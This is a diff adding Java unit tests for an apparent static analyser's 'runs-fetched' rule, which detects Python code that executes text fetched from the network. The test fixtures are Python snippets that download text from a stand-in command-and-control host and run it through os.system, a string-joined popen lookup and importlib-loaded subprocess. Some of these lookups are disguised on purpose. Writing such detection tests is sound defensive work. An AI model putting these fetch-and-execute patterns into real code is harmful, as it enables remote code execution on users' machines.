@@ -977,6 +977,63 @@ class DataFlowTest {
     }
 
     @Test
+    void aNameTheFileBindsOnceToALiteralIsThatLiteralInALookup() {
+      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
+
+      assertThat(
+              reached("runs-fetched", fetched + lines("name = 'system'", "getattr(os, name)(c)")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched + lines("FN = 'po' + 'pen'  # joined", "f = vars(os)[FN]", "f(c)")))
+          .contains(5);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import importlib, requests",
+                      "M = 'subprocess'",
+                      "F = 'getoutput'",
+                      "c = requests.get('https://c2.example').text",
+                      "getattr(importlib.import_module(M), F)(c)")))
+          .contains(5);
+    }
+
+    @Test
+    void aNameBoundTwiceOrAParameterOfThatNameIsNoLiteral() {
+      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
+
+      // bound to two names: which one a lookup reads depends on where it is made
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched + lines("name = 'system'", "name = 'getcwd'", "getattr(os, name)(c)")))
+          .isEmpty();
+      // rebound by a loop
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched
+                      + lines(
+                          "name = 'system'",
+                          "for name in ('getuid',):",
+                          "    getattr(os, name)(c)")))
+          .isEmpty();
+      // a function's parameter of that name is whatever its caller gives
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched
+                      + lines(
+                          "name = 'system'",
+                          "def call(name, arg):",
+                          "    return getattr(os, name)(arg)",
+                          "call('getcwd', c)")))
+          .isEmpty();
+    }
+
+    @Test
     void aCallBoundForLaterIsTheCall() {
       assertThat(
               reached(
